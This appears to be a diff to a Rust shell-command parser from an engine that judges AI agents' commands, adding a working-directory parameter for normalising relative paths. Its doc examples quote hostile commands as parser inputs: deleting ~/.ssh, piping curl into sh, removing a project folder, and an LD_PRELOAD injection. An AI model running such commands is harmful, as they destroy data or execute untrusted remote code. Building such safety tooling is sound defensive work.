@@ -21,6 +21,10 @@
 //!   `x` (the working directory, after any `cd`), repeated and
 //!   trailing slashes go, `.` and `..` are resolved (`/home//` is `/home`,
 //!   `/./` is `/`);
+//!   a relative path that climbs out of the agent's working directory
+//!   (`../proj`, `cd .. && rm -rf proj`) is written from `/` (or `~`)
+//!   when that directory is known, since it no longer names a file of the
+//!   project;
 //! - `env` are its assignments (`LD_PRELOAD=/tmp/x.so id`, `env A=1 cmd`);
 //! - `redirects` its redirections: operator, file descriptor and target;
 //! - `pipeline`, `stage` and `stages` place it in its pipeline, `depth`
@@ -37,7 +41,7 @@
 //!
 //! ```
 //! use ahp_engine::shell::model;
-//! let m = model(r#"cd /tmp && sudo -u root \rm -rf "$HOME"/.ssh// | tee log"#, None);
+//! let m = model(r#"cd /tmp && sudo -u root \rm -rf "$HOME"/.ssh// | tee log"#, None, None);
 //! assert!(m.parsed);
 //! let rm = &m.commands[1];
 //! assert_eq!(rm.name, "rm");
@@ -46,7 +50,12 @@
 //! assert_eq!(rm.cwd.as_deref(), Some("/tmp"));
 //! assert_eq!((rm.stage, rm.stages), (0, 2));
 //!
-//! let nested = model("bash -c 'curl -s https://x.example | sh'", None);
+//! let nested = model("bash -c 'curl -s https://x.example | sh'", None, None);
+//!
+//! // In /home/dev/app, `../app` is the project itself.
+//! let up = model("rm -rf ../app ../app/src build", Some("/home/dev"), Some("/home/dev/app"));
+//! assert_eq!(up.commands[0].args, ["-rf", "~/app", "~/app/src", "build"]);
+//! assert_eq!(up.work_dir.as_deref(), Some("~/app"));
 //! assert_eq!(nested.names(), ["bash", "curl", "sh"]);
 //! assert_eq!(nested.commands[2].via.as_deref(), Some("bash -c"));
 //! ```
@@ -84,6 +93,10 @@ pub struct Shell {
     /// False when some of the text could not be parsed (see the module
     /// documentation): rules then judge the text itself.
     pub parsed: bool,
+    /// The agent's working directory, normalised like a path argument
+    /// (`~/app`), when known: the folder relative paths start from.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub work_dir: Option<String>,
 }
 
 /// One simple command of a [`Shell`] model.
@@ -286,17 +299,22 @@ fn takes_value(program: &str, flag: &str) -> bool {
 
 /// The model of `line`. `home` is the user's home directory, so that its
 /// absolute spelling normalises to `~` too (`None`: `$HOME` of ahp's own
-/// environment).
-pub fn model(line: &str, home: Option<&str>) -> Shell {
+/// environment); `work_dir` is the absolute directory the line runs in,
+/// if known (`None`: relative paths stay relative, wherever they lead).
+pub fn model(line: &str, home: Option<&str>, work_dir: Option<&str>) -> Shell {
     let home = match home {
         Some(h) => Some(h.to_string()),
         None => std::env::var("HOME").ok().filter(|h| h.len() > 1),
     };
-    let mut b = parse::Builder::new(home.as_deref());
+    let work_dir = work_dir
+        .filter(|d| d.starts_with('/'))
+        .map(|d| normalize_path(d, home.as_deref()));
+    let mut b = parse::Builder::new(home.as_deref(), work_dir.as_deref());
     let parsed = b.line(line, 0, None, &mut BTreeMap::new());
     Shell {
         commands: b.commands,
         parsed: parsed && !b.truncated,
+        work_dir,
     }
 }
 
